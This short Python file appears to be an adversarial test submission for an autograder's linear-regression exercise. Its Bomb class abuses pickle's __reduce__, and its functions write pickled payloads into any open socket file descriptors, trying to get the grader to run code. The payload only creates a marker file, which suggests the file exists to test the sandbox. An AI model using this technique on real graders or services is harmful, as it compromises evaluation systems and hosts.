# tries: to have its answer unpickled, and code run where it is
# exercise: linear_regression
import os
import pickle
import stat
import struct

import torch


class Bomb(torch.nn.Module):
    def __reduce__(self):
        return open, ("@FOLDER@/unpickled", "w")


def compute_loss(*arguments):
    for protocol in range(6):
        body = pickle.dumps(Bomb(), protocol)
        for number in range(3, 64):
            try:
                if stat.S_ISSOCK(os.fstat(number).st_mode):
                    os.write(number, struct.pack("!I", len(body)) + body + body)
            except OSError:
                pass
    return Bomb()


def train_parameters_linear_regression(*arguments, **keywords):
    return pickle.dumps(Bomb()), Bomb()
